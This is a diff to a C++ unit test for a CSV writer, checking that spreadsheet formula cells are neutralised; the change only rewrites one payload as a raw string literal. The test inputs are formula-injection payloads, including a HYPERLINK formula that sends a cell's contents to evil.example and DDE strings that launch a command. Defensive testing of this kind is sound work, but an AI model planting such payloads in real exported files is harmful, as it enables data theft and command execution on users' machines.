@@ -16,7 +16,7 @@ TEST(CsvWriterTest, QuotesOnlyWhatNeedsIt) {
 TEST(CsvWriterTest, FormulaCellsAreNeutralised) {
   for (const char* payload :
        {"=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1",
-        "=HYPERLINK(\"http://evil.example?x=\"&A1,\"Error: click\")", "=cmd|' /C calc'!A0",
+        R"(=HYPERLINK("http://evil.example?x="&A1,"Error: click"))", "=cmd|' /C calc'!A0",
         "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
         "+thespanishinquisition(cmd|'/c calc.exe'!A)"}) {
     const std::string cell = NeutraliseFormula(payload);
